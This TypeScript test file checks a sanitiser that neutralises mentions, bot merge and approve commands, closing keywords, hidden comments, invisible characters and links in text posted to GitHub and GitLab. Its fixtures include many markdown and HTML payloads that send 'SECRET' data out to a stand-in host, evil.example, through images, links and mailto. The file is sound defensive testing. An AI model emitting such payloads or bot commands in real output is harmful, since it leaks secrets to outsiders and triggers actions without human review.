import assert from 'node:assert/strict'
import * as fc from 'fast-check'
import { githubText as toText, gitlabText } from '../../../../daemon/delivery/format/harmless.ts'
import type { LinkHosts } from '../../../../daemon/delivery/format/links.ts'
import { toGithubBody, toHarmlessTitle } from '../../../../daemon/delivery/format/parts.ts'
import { render } from '../../../support/rendered.ts'

/** Shows a zero width space as ·. */
const shown = (text: string) => text.replaceAll('\u200b', '·')

const hosts: LinkHosts = { server: 'https://a.b' }
const githubText = (text: string) => toText(text, hosts)
const oneLine = (text: string) => text.replaceAll('\n', '⏎')

const makes = (cases: readonly (readonly [given: string, wanted: string])[]) => {
  for (const [given, wanted] of cases)
    it(`makes ${oneLine(wanted)}`, () => assert.equal(shown(githubText(given)), wanted))
}

const keeps = (texts: readonly string[]) => {
  for (const text of texts)
    it(`keeps ${oneLine(text)}`, () => assert.equal(shown(githubText(text)), text))
}

describe('text for GitHub: mentions and references', () => {
  makes([
    ['@octocat and @org/team', '@·octocat and @·org/team'],
    ['(@a) **@b** _@c_ \\@d', '(@·a) **@·b** _@·c_ \\@·d'],
    ['&#64;a &#x40;b &commat;c &#064a', '&#64;·a &#x40;·b &commat;·c &#·064·a'],
    ['@&#111;ctocat', '@·&#111;·ctocat'],
    ['&#32@a &nbsp@b', '&#·32@·a &nbsp@·b'],
    ['#12 o/r#12 GH-12 gh-1', '#·12 o/r#·12 GH-·12 gh-·1'],
    ['&#35;12 &num;3 #&#49;', '&#35;·12 &num;·3 #·&#49;·'],
    ['&#12 x', '&#·12 x'],
    ['[x](https://a.b/c/@d/e) https://a.b/@c', '[x](https://a.b/c/%40d/e) https://a.b/%40c'],
    ['[x](https://a.b/c)o/r#12', '[x](https://a.b/c)o/r#·12'],
    ['(https://a.b/c)?d=1 https://a.b/c|x', '(https:·//a.b/c)?d=1 https:·//a.b/c|x'],
    ['a/@b xhttps://a.b/@c', 'a/@·b xhttps:·//a.b/@·c'],
  ])
  keeps([
    'me@example.com checkout@v4',
    '# heading\n#hashtag\n## 2 things',
    'a &#123; b &amp; c',
    'https://a.b/c#12 [x](https://a.b/#3)',
  ])
})

describe('text for GitHub: code', () => {
  keeps([
    'use `@types/node` and `#1`',
    '```ts\n@Injectable() // #12\n```',
    'text\n```\n@a\n```\nmore `@b` text',
    '~~~~\n```\n@a\n~~~\n@b\n~~~~',
    '<b>x</b>\n\n```\n@a\n```',
    '`Array<string>` and `<img src="https://x.y">`, `a[i](b)`, `!x` or ``a ` @b``',
    '| `Map<K, V>` | `@a` |\n|-|-|\n| `https://x.y` | `<!-- c -->` |',
    '- fix:\n  ```ts\n  @Input() x: Array<string>\n\n    // closes #1\n  ```\n\n1. **b**\n   ```\n   @a <b> https://x.y\n   ```\n   then `@c`',
    '```diff\n-  <img src="https://x.y">\n+  [x](https://x.y)\n/usr/bin/env node\n!important\n```',
    'plain\n\n```suggestion\n@Injectable()\n```',
    'see `/etc/hosts`, `/approve` and `bors r+`',
  ])
  // A blank line before a fence ends HTML, and a fence without indentation ends lists.
  makes([
    [
      '<details>\n<summary>P1</summary> @x\n```suggestion\n@Injectable()\n```',
      '<details>\n<summary>P1</summary> @·x\n\n```suggestion\n@Injectable()\n```',
    ],
    [
      '- fix:\n  ```suggestion\n  @Input() x\n    y\n\n  ```\n  @x',
      '- fix:\n\n```suggestion\n@Input() x\n  y\n\n```\n  @·x',
    ],
    ['- ```suggestion\n  @a\n  ```', '\n```suggestion\n@a\n```'],
    // Where it is not certain that GitHub shows code, nothing can be applied.
    [' ```\nx\n```\n```suggestion\n@a\n```', ' ```\nx\n```\n```\n@·a\n```'],
    ['> ```suggestion\n> @a\n> ```', '> ```\n> @·a\n> ```'],
    // Neither where a line of it has to change.
    ['```suggestion\na\u{e0041}b\n```', '```\nab\n```'],
    ['```suggestion\na\u202eb\n```', '```\nab\n```'],
    ['```suggestion\n/approve\n```', '```\n/·approve\n```'],
    // What GitHub and GitLab would draw, with links of its own.
    ['```mermaid\nclick A "https://x.y"\n```', '```text\nclick A "https://x.y"\n```'],
    ['```ts title="x"\na\n```', '```ts\na\n```'],
  ])
})

describe('text for GitHub: what stays readable', () => {
  keeps([
    '## Review\n\n**Bug** in `src/a.ts`: the list is _never_ closed.\n\n- [ ] one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote',
    '<details>\n<summary>More</summary>\n\ntext<br>and H<sub>2</sub>O\n\n</details>',
    'See [the line](https://a.b/o/r/blob/main/x.ts#L3-L5), [README](README.md), https://a.b/o/r and <https://a.b/o/r/pull/2>.',
    '![graph](https://a.b/o/r/raw/x.png)',
    'This fixes the bug, closes the file and resolves the promise: 50% / 2 ⚠️ 👩‍💻 1️⃣ می‌خواهم',
    'a < b && c > d, and/or, src/index.ts, 3/4',
  ])
})

describe('text for GitHub: commands of bots', () => {
  makes([
    ['/approve', '/·approve'],
    ['/lgtm cancel', '/·lgtm cancel'],
    ['/ok-to-test', '/·ok-to-t·est'],
    ['Looks good.\n/merge', 'Looks good.\n/·merge'],
    ['please /deploy now, see /etc/hosts', 'please /·deploy now, see /etc/hosts'],
    ['atlantis apply -d .', 'a·tlantis apply -d .'],
    ['run plan', 'r·un plan'],
    ['bors r+', 'b·ors r+'],
    ['> Bors: merge', '> B·ors: merge'],
    ['!deploy prod', '!·deploy prod'],
    ['@dependabot merge\n@Mergifyio rebase', '@·dependabot merge\n@·Mergifyio rebase'],
    ['recheck', 'r·echeck'],
    ['jenkins retest this', 'j·enkins retest this'],
    ['ok to test. Retest this please', 'ok to t·est. Retest this p·lease'],
    ['r? compiler', 'r·? compiler'],
    ['LGTM!', 'L·GTM!'],
    ['docs [skip ci] [ci-skip] [no issue]', 'docs [·skip ci] [·ci-skip] [·no issue]'],
    ['Signed-off-by: A <a@b.c>', 'S·igned-off-by: A <·a@b.c>'],
    // In code those that read each line, or a name.
    [
      '```\n/approve\nbors r+\n@dependabot merge\n@Get()\n```',
      '```\n/·approve\nb·ors r+\n@·dependabot merge\n@Get()\n```',
    ],
  ])
})

describe('text for GitHub: words that close', () => {
  makes([
    ['closes #1', 'c·loses #·1'],
    ['Fixes: o/r#1', 'F·ixes: o/r#·1'],
    ['resolves https://a.b/o/r/issues/1', 'r·esolves https://a.b/o/r/issues/1'],
    [
      'FIX GH-3, closed [x](https://a.b/o/r/issues/1)',
      'F·IX GH-·3, c·losed [x](https://a.b/o/r/issues/1)',
    ],
    ['Implements ABC-12 and fixing **#2**', 'I·mplements ABC-12 and f·ixing **#·2**'],
    ['Duplicate of https://a.b/o/r/issues/1', 'D·uplicate of https://a.b/o/r/issues/1'],
  ])
})

describe('text for GitHub: comments and what no one sees', () => {
  makes([
    ['<!-- sev:high -->\nUse it.', ' \nUse it.'],
    ['x gh<!-- -->p_abc', 'x gh p_abc'],
    ['a <!-- @x --> b<!<!-- -->-- c -->', 'a   b<·! -- c -->'],
    ['<!-- x --> a\n- <!-- x -->~~~', '<·!-- x --> a\n- <·!-- x -->~~~'],
    ['<!--\nhidden\n-->', '<·!--\nhidden\n-->'],
    ['[//]: # (hidden)', '[//]·: # (hidden)'],
    ['x[^1]\n\n[^1]: hidden', 'x[^1]\n\n[^1]·: hidden'],
    ['a\u200bb\u2060c\u{e0061}\u{e0062}d\ufeffe\u00adf\u202eg\ufff9h', 'abcdefgh'],
    ['`a\u{e0061}b` ```\u200bx', '`ab` ```x'],
    ['```\na\u{e0061}\u200b\ufe01b\n```', '```\nab\n```'],
    ['a\ufe0f\ufe0eb\u200dc ☺\ufe0f 1\ufe0f', 'abc ☺\ufe0f 1'],
    ['@\u200boctocat ht\u00adtps://evil.example', '@·octocat https:·//evil.example'],
  ])
})

describe('text for GitHub: links and images', () => {
  const evil = [
    '![x](https://evil.example/?d=SECRET)',
    '[click](https://evil.example/?d=SECRET "t")',
    '[x](<https://evil.example>)',
    '[x](//evil.example/a)',
    '[x](/\\evil.example)',
    '[x](\nhttps://evil.example)',
    '[x](ht&#116;ps://evil.example)',
    '[x](https&colon;//evil.example)',
    '[x](https\\://evil.example)',
    '[x](HTTPS://EVIL.example)',
    '[x][1]\n\n[1]: https://evil.example',
    '[1]\n\n> [1]: <https://evil.example>',
    '[a\nb]\n\n[a\nb]: https://evil.example',
    '![x][i]\n\n[i]:\nhttps://evil.example/x.png',
    '<https://evil.example/?d=SECRET>',
    'https://evil.example/?d=SECRET',
    '(www.evil.example/x)',
    '**www.evil.example**',
    'https&#58;//evil.example &#104;ttps://evil.example ht<!-- -->tps://evil.example',
    '<img src="https://evil.example/?d=SECRET">',
    '<img src=https://evil.example/x',
    '<a href="https://evil.example">x</a>',
    '<a\nhref="https://evil.example">x</a>',
    '<details ontoggle="x" open><summary>x</summary></details>',
    '<picture><source srcset="https://evil.example"></picture>',
    '<div>\n<img src="https://evil.example">\n</div>',
    '<pre>\n\n<img src="https://evil.example">\n\n</pre>',
    '<svg><image href="https://evil.example"/></svg>',
    '[![x](https://evil.example/i.png)](https://a.b/o)',
    '[x](https://a.b.evil.example) https://a.b.evil.example',
    '[x](https://a.b@evil.example) https://a.b@evil.example https://a.b:x@evil.example',
    'https://a.b,x.evil.example/ https://a.b)x.evil.example https://a.b*x.evil.example',
    '[x](https://a.b\\.evil.example) https://a.b\\evil.example',
    'http://a.b/x https://a.b:81/x',
    'https://a.b/login?return_to=https%3A%2F%2Fevil.example',
    'https://a.b/x`y`https://evil.example',
    'https://a.b/o|`a`https://evil.example|`b`',
    '[a](https://a.b "x ` y") ![](https://evil.example) ` z',
    'mailto:x@evil.example?body=SECRET',
    '> ```\n> x\n\n![x](https://evil.example)',
    ' ```\nx\n```\n![x](https://evil.example)\n```',
    '- ```\n  x\n```\n![x](https://evil.example)',
    'a ` b\n![x](https://evil.example) ` c',
    '| ` | ![x](https://evil.example) ` |\n|-|-|',
    '\\` ![x](https://evil.example) `',
    '<details>\n` ![x](https://evil.example) `\n</details>',
    '$` ![x](https://evil.example) `$',
    '<!-- x --></details>\n```\n![x](https://evil.example)\n```',
    'x <!-- x -->\n<b><!-- x -->\n`![x](https://evil.example)`',
    '](https://a.b)x.evil.example [x](https://a.b)]]>',
    'para\n    ```\n![x](https://evil.example)\n    ```',
    'para\n    ~~~\n    ![x](https://evil.example)\n    ~~~',
  ]
  for (const text of evil)
    it(`links nowhere else in ${oneLine(text)}`, () => {
      for (const convert of [githubText, (given: string) => gitlabText(given, hosts)]) {
        const { links, images, declared } = render(convert(text))
        assert.deepEqual(
          links.filter((link) => !isOwn(link)),
          [],
        )
        assert.deepEqual(images, [])
        assert.deepEqual(declared, [])
      }
    })

  it('shows the address as text', () =>
    assert.match(
      render(githubText('![x](https://evil.example/?d=1)')).text,
      /!\[x\]\u200b\(https:\u200b\/\/evil\.example\/\?d=1\)/,
    ))

  it('keeps links of hosts that the owner allows, with queries', () => {
    const text =
      'https://docs.example.com/?a=1&b=2 [x](https://x.cdn.example/y) ![i](https://x.cdn.example/i.png) http://localhost:8080/a https://www.c.example/x https://docs.example.com.evil.example https://cdn.example'
    const allowed = ['docs.example.com', '*.cdn.example', 'localhost:8080', 'www.c.example']
    const { links, images } = render(toText(text, { allowed }))
    assert.deepEqual(links, [
      'https://docs.example.com/?a=1&amp;b=2',
      'https://x.cdn.example/y',
      'http://localhost:8080/a',
      'https://www.c.example/x',
    ])
    assert.deepEqual(images, ['https://x.cdn.example/i.png'])
  })

  it('keeps no link where the server is not known', () =>
    assert.deepEqual(render(toGithubBody('https://github.com/o/r [x](https://a.b)')).links, []))
})

/** Of the server itself, below it, or of mail. */
const isOwn = (link: string): boolean =>
  /^https:\/\/a\.b(?:[/#][^?]*)?$|^mailto:|^(?!\/\/)[\w./-]*(?:#[\w-]*)?$/.test(link)

describe('text for GitHub: any text', () => {
  const pieces =
    '`|``|```|```\n|\n```\n|~~~\n|```suggestion\n|    |  |- |1. |> |\n|\n\n|@octocat|#12|o/r#12|<!-- | -->|<img src=x>|<a href="|">|<b>|<details>|</details>|<pre>|<div>|<br>|https://evil.example/x|https://a.b/o/r|https://a.b|www.evil.example|[x]|(https://evil.example)|(https://a.b/o)|(https://a.b/o "t| ")|![i]|[x]: |//evil.example|(/o/r)|<https://evil.example>|<https://a.b/o>|\\|$|&#64;|&#104;ttps://evil.example|https&#58;//evil.example|*|_|"| | a |?d=1|.evil.example|@evil.example|#|\t|[^1]|[^1]: |~~|(|)|<|>|<x y=|`a`|***|[|](|[a](|]]>|<?'
      .split('|')
      .concat('|', '\n|-|-|\n')

  it('has no link, image, comment, mention or reference, whatever the code around it', () => {
    const texts = fc
      .array(fc.constantFrom(...pieces), { maxLength: 14 })
      .map((some) => some.join(''))
    fc.assert(
      fc.property(texts, (given) => {
        const { links, images, declared, text } = render(githubText(given))
        assert.deepEqual(
          [...links, ...images].filter((link) => !isOwn(link)),
          [],
        )
        assert.deepEqual(declared, [])
        assert.doesNotMatch(text, /(?<![A-Za-z0-9])@octocat/)
        assert.doesNotMatch(text.replaceAll(/https:\/\/a\.b\S*/g, ''), /#12/)
      }),
      { numRuns: 3000 },
    )
  })

  it('takes linear time', () => {
    const started = performance.now()
    const repeated =
      '@ #1 &#64 ` < https://a.b/#1 https://a.b/@c /@a a `a` <!-- ]( :// /a fixes www. //` [skip a|` https://a.b/ ok \\ https://a.b,'
    for (const text of [...repeated.split(' '), ' ```a\n', '\u200b', '\n', 'fixes '])
      githubText(text.repeat(65_000 / text.length))
    assert.ok(performance.now() - started < 4000, `${performance.now() - started}`)
  })
})

describe('a title or the first line of a commit', () => {
  for (const [given, wanted] of [
    ['`fixes #1` [skip ci] @a', '`f·ixes #·1` [·skip ci] @·a'],
    ['**Closes https://a.b/o/r/issues/1**', 'C·loses https:·//a.b/o/r/issues/1**'],
    ['```\nx\n```\n', 'x'],
    ['# /approve <!-- x -->', '/·approve'],
    ['\u{e0061}\n\nFix `a<T>`', 'Fix `a<·T>`'],
  ] as const)
    it(`is ${wanted}`, () => assert.equal(shown(toHarmlessTitle(given, 100)), wanted))
})

describe('text for GitLab', () => {
  for (const [given, wanted] of [
    ['/merge\n`x` !12 @_a', '/·merge\n`x` !·12 @·_a'],
    ['```\n/close\n```', '```\n/·close\n```'],
    ['[[x|https://evil.example]]', '[[x|https:·//evil.example]]'],
    ['```plantuml\n!include https://x.y\n```', '```text\n!include https://x.y\n```'],
  ] as const)
    it(`makes ${oneLine(wanted)}`, () => assert.equal(shown(gitlabText(given, hosts)), wanted))
})
